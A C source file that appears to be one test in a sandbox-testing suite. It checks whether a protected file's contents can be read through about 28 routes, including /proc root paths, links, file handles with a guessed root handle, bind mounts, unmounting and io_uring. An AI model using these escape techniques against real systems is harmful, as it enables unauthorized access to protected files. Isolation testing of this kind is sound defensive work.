/* hostile-read PATH MARK [WRITABLE-DIRECTORY] - is the text MARK in PATH readable under any alias?
 *
 * T5: every name that leads to the same inode, every call that opens. PATH is absolute.
 */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/mount.h>
#include <linux/openat2.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *target, *mark;
static char directory[PATH_MAX], name[PATH_MAX], scratch[PATH_MAX];

/* True when the descriptor gives the mark. Closes it. */
static bool fd_has_mark(int fd)
{
    if (fd < 0)
        return false;
    char text[65536];
    ssize_t n = pread(fd, text, sizeof text - 1, 0);
    if (n < 0)
        n = read(fd, text, sizeof text - 1);
    int os = errno;
    close(fd);
    errno = os;
    return n > 0 && memmem(text, (size_t)n, mark, strlen(mark));
}

static bool path_has_mark(const char *path)
{
    return fd_has_mark(open(path, O_RDONLY | O_NONBLOCK));
}

__attribute__((format(printf, 1, 2))) static bool name_has_mark(const char *format, ...)
{
    char path[PATH_MAX * 2];
    va_list ap;
    va_start(ap, format);
    vsnprintf(path, sizeof path, format, ap);
    va_end(ap);
    bool seen = path_has_mark(path);
    if (seen)
        attack_note("%s", path);
    return seen;
}

static bool by_open(void)
{
    return path_has_mark(target);
}

static bool by_open_read_write(void)
{
    return fd_has_mark(open(target, O_RDWR));
}

static bool by_access_mode_three(void)
{
    return fd_has_mark(open(target, O_ACCMODE));
}

static bool by_openat(void)
{
    int at = open(directory, O_PATH | O_DIRECTORY);
    return at >= 0 && fd_has_mark(openat(at, name, O_RDONLY));
}

static bool by_openat2(void)
{
    struct open_how how = { .flags = O_RDONLY };
    return fd_has_mark((int)syscall(SYS_openat2, AT_FDCWD, target, &how, sizeof how));
}

static bool by_relative_name(void)
{
    return chdir(directory) == 0 && path_has_mark(name);
}

static bool by_dots(void)
{
    return name_has_mark("%s/../%s/./%s", directory, strrchr(directory, '/') + 1, name) ||
           name_has_mark("//%s", target) || name_has_mark("/usr/..%s", target);
}

static bool by_proc_root(void)
{
    return name_has_mark("/proc/self/root%s", target) ||
           name_has_mark("/proc/thread-self/root%s", target) ||
           name_has_mark("/proc/1/root%s", target) || name_has_mark("/proc/2/root%s", target) ||
           name_has_mark("/proc/%d/root%s", getppid(), target);
}

static bool by_proc_cwd(void)
{
    return chdir("/") == 0 &&
           (name_has_mark("/proc/self/cwd%s", target) || name_has_mark("/proc/1/cwd%s", target));
}

static bool by_path_descriptor(void)
{
    int at = open(target, O_PATH);
    return at >= 0 && name_has_mark("/proc/self/fd/%d", at);
}

static bool by_directory_descriptor(void)
{
    int at = open(directory, O_PATH | O_DIRECTORY);
    return at >= 0 && name_has_mark("/proc/self/fd/%d/%s", at, name);
}

static bool by_map(void)
{
    int fd = open(target, O_RDONLY);
    struct stat st;
    if (fd < 0 || fstat(fd, &st) < 0 || st.st_size == 0)
        return false;
    char *text = mmap(NULL, (size_t)st.st_size, PROT_READ, MAP_PRIVATE, fd, 0);
    return text != MAP_FAILED && memmem(text, (size_t)st.st_size, mark, strlen(mark));
}

static bool by_sendfile(void)
{
    int from = open(target, O_RDONLY), to = memfd_create("copy", 0);
    return from >= 0 && to >= 0 && sendfile(to, from, NULL, 65536) > 0 && fd_has_mark(to);
}

static bool by_symlink(void)
{
    char link_name[PATH_MAX + 32];
    snprintf(link_name, sizeof link_name, "%s/alias-link", scratch);
    if (symlink(target, link_name) < 0)
        return false;
    bool seen = path_has_mark(link_name);
    int os = errno;
    unlink(link_name);
    errno = os;
    return seen;
}

static bool by_hard_link(void)
{
    char link_name[PATH_MAX + 32];
    snprintf(link_name, sizeof link_name, "%s/alias-hard", scratch);
    if (link(target, link_name) < 0)
        return false;
    bool seen = path_has_mark(link_name);
    unlink(link_name);
    return seen;
}

static bool by_hard_link_of_descriptor(void)
{
    char link_name[PATH_MAX + 32], from[64];
    int fd = open(target, O_PATH);
    if (fd < 0)
        return false;
    snprintf(link_name, sizeof link_name, "%s/alias-fd", scratch);
    snprintf(from, sizeof from, "/proc/self/fd/%d", fd);
    if (linkat(AT_FDCWD, from, AT_FDCWD, link_name, AT_SYMLINK_FOLLOW) < 0 &&
        linkat(fd, "", AT_FDCWD, link_name, AT_EMPTY_PATH) < 0)
        return false;
    bool seen = path_has_mark(link_name);
    unlink(link_name);
    return seen;
}

static bool by_moving_it_out(void)
{
    char new_name[PATH_MAX + 32];
    snprintf(new_name, sizeof new_name, "%s/moved", scratch);
    if (rename(target, new_name) < 0)
        return false;
    bool seen = path_has_mark(new_name);
    if (rename(new_name, target) < 0)
        attack_note("could not move it back");
    return seen;
}

static bool by_moving_the_directory(void)
{
    char new_name[PATH_MAX + 32], inside[PATH_MAX * 2 + 64];
    snprintf(new_name, sizeof new_name, "%s/moved-directory", scratch);
    if (rename(directory, new_name) < 0)
        return false;
    snprintf(inside, sizeof inside, "%s/%s", new_name, name);
    bool seen = path_has_mark(inside);
    if (rename(new_name, directory) < 0)
        attack_note("could not move it back");
    return seen;
}

static bool by_chmod(void)
{
    if (chmod(target, 0644) < 0 && chmod(directory, 0755) < 0)
        return false;
    return path_has_mark(target);
}

static bool by_file_handle(void)
{
    struct {
        struct file_handle head;
        unsigned char bytes[MAX_HANDLE_SZ];
    } handle = { .head.handle_bytes = MAX_HANDLE_SZ };
    int mount_id = 0, at = open("/", O_RDONLY | O_DIRECTORY);
    if (name_to_handle_at(AT_FDCWD, target, &handle.head, &mount_id, 0) < 0 &&
        name_to_handle_at(AT_FDCWD, directory, &handle.head, &mount_id, 0) < 0)
        return false;
    int fd = open_by_handle_at(at, &handle.head, O_RDONLY);
    if (fd < 0)
        return false;
    struct stat st;
    if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode))
        return fd_has_mark(openat(fd, name, O_RDONLY));
    return fd_has_mark(fd);
}

/* The root directory of ext4, xfs and btrfs has a well-known handle; from it everything is reached. */
static bool by_guessed_handle(void)
{
    struct {
        struct file_handle head;
        unsigned bytes[2];
    } handle = { .head = { .handle_bytes = 8, .handle_type = 1 }, .bytes = { 2, 0 } };
    int at = open("/", O_RDONLY | O_DIRECTORY);
    int root = open_by_handle_at(at, &handle.head, O_RDONLY | O_DIRECTORY);
    return root >= 0 && fd_has_mark(openat(root, target + 1, O_RDONLY));
}

static bool by_bind_mount(void)
{
    char new_name[PATH_MAX + 32];
    snprintf(new_name, sizeof new_name, "%s/bound", scratch);
    mkdir(new_name, 0700);
    if (mount(directory, new_name, NULL, MS_BIND, NULL) < 0)
        return false;
    bool seen = name_has_mark("%s/%s", new_name, name);
    umount2(new_name, MNT_DETACH);
    rmdir(new_name);
    return seen;
}

static bool by_open_tree(void)
{
    int at = (int)syscall(SYS_open_tree, AT_FDCWD, directory, OPEN_TREE_CLONE);
    return at >= 0 && fd_has_mark(openat(at, name, O_RDONLY));
}

static bool by_unmounting(void)
{
    return (umount2(target, MNT_DETACH) == 0 || umount2(directory, MNT_DETACH) == 0) &&
           path_has_mark(target);
}

static bool by_script_interpreter(void)
{
    int out[2];
    if (pipe(out) < 0)
        return false;
    pid_t child = fork();
    if (child == 0) {
        dup2(out[1], 1);
        dup2(out[1], 2);
        execl(target, target, (char *)NULL);
        _exit(1);
    }
    close(out[1]);
    char text[4096];
    ssize_t n = read(out[0], text, sizeof text);
    waitpid(child, NULL, 0);
    return n > 0 && memmem(text, (size_t)n, mark, strlen(mark));
}

static bool by_other_descriptors(void)
{
    for (int pid = 1; pid < 64; pid++)
        for (int fd = 0; fd < 32; fd++)
            if (name_has_mark("/proc/%d/fd/%d", pid, fd) ||
                name_has_mark("/proc/%d/fd/%d%s", pid, fd, target) ||
                name_has_mark("/proc/%d/cwd/%s", pid, name))
                return true;
    errno = EACCES;
    return false;
}

static bool by_map_files(void)
{
    return name_has_mark("/proc/self/task/%d/root%s", getpid(), target) ||
           name_has_mark("/dev/fd/../root%s", target);
}

static bool by_io_uring(void)
{
    return fd_has_mark(attack_ring_open(target, O_RDONLY, 0));
}

int main(int argc, char **argv)
{
    static const struct way ways[] = {
        { "open", by_open },
        { "open for both", by_open_read_write },
        { "open with access mode 3", by_access_mode_three },
        { "openat", by_openat },
        { "openat2", by_openat2 },
        { "relative name", by_relative_name },
        { "dots", by_dots },
        { "/proc/PID/root", by_proc_root },
        { "/proc/PID/cwd", by_proc_cwd },
        { "O_PATH and /proc/self/fd", by_path_descriptor },
        { "directory descriptor", by_directory_descriptor },
        { "mmap", by_map },
        { "sendfile", by_sendfile },
        { "symlink", by_symlink },
        { "hard link", by_hard_link },
        { "hard link of a descriptor", by_hard_link_of_descriptor },
        { "rename", by_moving_it_out },
        { "rename of the directory", by_moving_the_directory },
        { "chmod", by_chmod },
        { "file handle", by_file_handle },
        { "guessed file handle", by_guessed_handle },
        { "bind mount", by_bind_mount },
        { "open_tree", by_open_tree },
        { "unmount", by_unmounting },
        { "as a script", by_script_interpreter },
        { "descriptors of others", by_other_descriptors },
        { "more of /proc", by_map_files },
        { "io_uring", by_io_uring },
    };
    attack_begin(argc, argv);
    target = attack_argument(1);
    mark = attack_argument(2);
    snprintf(scratch, sizeof scratch, "%s", argc > 3 ? argv[3] : "/tmp");
    attack_split(target, directory, name);
    return attack_run(ways, sizeof ways / sizeof *ways);
}
